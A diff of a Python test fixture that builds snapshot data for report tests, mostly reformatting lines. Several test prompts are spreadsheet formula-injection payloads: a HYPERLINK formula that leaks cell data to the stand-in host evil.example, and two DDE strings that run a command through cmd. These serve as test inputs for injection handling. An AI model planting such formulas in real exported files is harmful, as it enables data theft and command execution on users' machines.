@@ -1,4 +1,4 @@
-"""Real snapshots for the report tests: real image files on disk, values as the state store gives."""
+"""Snapshots for the report tests: real image files on disk, values as the state store gives."""
 
 from __future__ import annotations
 
@@ -141,7 +141,9 @@ def campaign_specs() -> list[JobSpec]:
             for market in (FR, JA):
                 prompt = f"{product['name']} in {market['setting']} ({season}), soft light"
                 specs.append(
-                    JobSpec({"product": product, "season": season, "market": market}, prompt, source)
+                    JobSpec(
+                        {"product": product, "season": season, "market": market}, prompt, source
+                    )
                 )
     specs[0].n = 2  # n > 1: two images in one cell
     specs[1].status = "failed"
@@ -149,7 +151,7 @@ def campaign_specs() -> list[JobSpec]:
     specs[2].status = "skipped"
     specs[3].prompt = f"mug {SCRIPT} on a table, 日本語のプロンプト, café crème 🎉"
     specs[4].vars = {**specs[4].vars, "season": f"summer {SCRIPT}"}
-    specs[5].prompt = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
+    specs[5].prompt = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     specs[6].vars = {**specs[6].vars, "season": "@SUM(1+1)*cmd|' /C calc'!A0"}
     specs[7].prompt = "-2+3+cmd|' /C calc'!A0"
     specs[8].prompt = "+1 and a\ttab"
